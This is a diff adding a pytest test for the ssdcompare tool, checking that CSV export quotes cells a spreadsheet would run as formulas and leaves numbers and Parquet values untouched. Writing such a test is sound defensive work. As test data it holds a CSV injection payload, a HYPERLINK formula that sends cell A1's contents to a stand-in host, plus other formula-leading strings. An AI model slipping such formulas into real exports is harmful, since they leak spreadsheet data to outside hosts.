@@ -1,7 +1,12 @@
-"""Parquet export: pyarrow is an optional extra; without it the message says how to get it."""
+"""Export: Parquet needs pyarrow, an optional extra (without it the message says how to get it);
+CSV never carries a cell a spreadsheet would run as a formula."""
 
 from __future__ import annotations
 
+import csv
+import importlib.util
+import json
+import shutil
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -10,7 +15,7 @@ import pandas as pd
 import pytest
 
 from ssdcompare.errors import SsdcompareError
-from ssdcompare.frame import export, load
+from ssdcompare.frame import _formula_safe, export, load
 
 ROOT = Path(__file__).parent.parent
 EXAMPLE = ROOT / "examples" / "results" / "ramdisk-vs-loop"
@@ -63,3 +68,33 @@ def test_the_parquet_extra_is_declared() -> None:
     project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
     extra = project["optional-dependencies"]["parquet"]
     assert any(requirement.startswith("pyarrow>=") for requirement in extra)
+
+
+def test_csv_cells_that_would_be_formulas_are_quoted_and_numbers_stay_numbers(
+    tmp_path: Path,
+) -> None:
+    copy = tmp_path / "results"
+    shutil.copytree(EXAMPLE, copy, ignore=shutil.ignore_patterns(".cache"))
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    manifest = json.loads((copy / "manifest.json").read_text())
+    manifest["host"]["hostname"] = formula  # a crafted hostname in someone's results
+    (copy / "manifest.json").write_text(json.dumps(manifest))
+    target = tmp_path / "results.csv"
+    export([copy], target)
+    rows = list(csv.DictReader(target.open(newline="")))
+    assert {row["host"] for row in rows} == {"'" + formula}
+    # numbers are written as numbers (sync rows: fsync calls have no rate)
+    assert all(float(row["iops"]) > 0 for row in rows if row["direction"] != "sync")
+    for summary in (False, True):
+        export([copy], tmp_path / "s.csv", summary)
+        text = (tmp_path / "s.csv").read_text()
+        assert '"=HYPERLINK' not in text and ",=HYPERLINK" not in text
+    # every text cell a spreadsheet would start a formula with; numeric columns untouched
+    cells = ["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "plain", None]
+    safe = _formula_safe(pd.DataFrame({"text": cells, "number": [-1.5] * len(cells)}))
+    quoted = ["'=1+2", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "plain"]
+    assert safe["text"].tolist()[:-1] == quoted and pd.isna(safe["text"].iloc[-1])
+    assert safe["number"].tolist() == [-1.5] * len(cells)
+    if importlib.util.find_spec("pyarrow") is not None:  # Parquet keeps values as they are
+        export([copy], tmp_path / "results.parquet")
+        assert set(pd.read_parquet(tmp_path / "results.parquet")["host"]) == {formula}
